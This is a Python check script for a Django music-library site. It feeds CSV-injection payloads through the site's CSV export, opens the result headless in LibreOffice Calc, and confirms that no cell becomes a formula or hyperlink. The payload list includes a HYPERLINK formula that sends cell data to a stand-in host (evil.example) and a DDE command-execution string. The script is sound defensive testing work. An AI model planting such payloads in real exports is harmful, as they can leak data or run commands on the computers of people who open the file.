#!/usr/bin/env python
"""Open the app's CSV export in LibreOffice Calc and show that no cell became a formula.

    .venv/bin/python scripts/csv_check.py

Writes an export (library.export.csv_lines, the code the site streams) of songs whose
titles and artists are the CSV-injection payloads an outside review used, converts it
headless with `soffice --convert-to fods` (LibreOffice's flat XML spreadsheet), read with
a comma and again with a semicolon as the separator, and counts the cells that hold a
formula (`table:formula`) or a hyperlink. Needs LibreOffice Calc: Debian's
libreoffice-calc-nogui. Prints a table; exits 1 if any cell is a formula.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import tempfile
import xml.etree.ElementTree as ET
from datetime import UTC, datetime
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))

PAYLOADS = [
    '\x00=HYPERLINK("https://evil.example/?"&C2,"click me")',
    "\x00=1+1",
    ";=3+3;",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=4+4",
    "\r=5+5",
    "  =6+6",
    '"=7+7"',
]
TABLE = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
TEXT = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"
# LibreOffice's CSV import options: separator, text delimiter ("), UTF-8 (76), first line.
SEPARATORS = {"comma": "44,34,76,1", "semicolon": "59,34,76,1"}


def _export(path: Path) -> None:
    os.environ.setdefault("DJANGO_SETTINGS_MODULE", "spotifysite.settings")
    os.environ.setdefault("DEBUG", "true")
    os.environ.setdefault("SECRET_KEY", "csv-check-only")
    import django

    django.setup()
    from library.export import csv_lines
    from library.tracks import Track

    tracks = [
        Track(
            id=f"id{number}",
            name=payload,
            artists=(payload, "Plain Artist"),
            album=payload,
            release_date="2020",
            image_url=None,
            duration_ms=180_000,
            explicit=False,
            playable=True,
            added_at=datetime(2026, 1, 1, tzinfo=UTC),
            uri=f"spotify:track:id{number}",
            spotify_url=None,
            isrc=None,
        )
        for number, payload in enumerate(PAYLOADS)
    ]
    path.write_text("".join(csv_lines(tracks)), encoding="utf-8")


def _formulas(fods: Path) -> tuple[int, int, int]:
    """(cells, cells holding a formula, cells holding a hyperlink) in the converted sheet."""
    tree = ET.parse(fods)  # noqa: S314
    cells = list(tree.iter(f"{{{TABLE}}}table-cell"))
    formulas = [cell for cell in cells if cell.get(f"{{{TABLE}}}formula")]
    links = list(tree.iter(f"{{{TEXT}}}a"))
    return sum(1 for cell in cells if "".join(cell.itertext())), len(formulas), len(links)


def main() -> int:
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if soffice is None:
        print("LibreOffice is not installed: apt-get install libreoffice-calc-nogui")
        return 2
    workdir = Path(tempfile.mkdtemp(prefix="spotifysite-csv-"))
    export = workdir / "liked-songs.csv"
    _export(export)
    rows = []
    for name, options in SEPARATORS.items():
        out = workdir / name
        subprocess.run(  # noqa: S603 (LibreOffice, on our own file)
            [
                soffice,
                "--headless",
                f"-env:UserInstallation=file://{workdir / 'profile'}",
                f"--infilter=CSV:{options}",
                "--convert-to",
                "fods",
                "--outdir",
                str(out),
                str(export),
            ],
            check=True,
            capture_output=True,
            timeout=180,
        )
        rows.append((name, *_formulas(out / "liked-songs.fods")))
    print(f"\nspotifysite CSV export opened in LibreOffice Calc ({len(PAYLOADS)} hostile songs)\n")
    print("separator | cells with text | formula cells | hyperlinks")
    print("--------- | --------------- | ------------- | ----------")
    for name, cells, formulas, links in rows:
        print(f"{name:<9} | {cells:<15} | {formulas:<13} | {links}")
    bad = sum(formulas + links for _, _, formulas, links in rows)
    print(f"\ncsv check: {'no cell is a formula' if bad == 0 else f'{bad} formula or link cells'}")
    return 0 if bad == 0 else 1


if __name__ == "__main__":
    sys.exit(main())
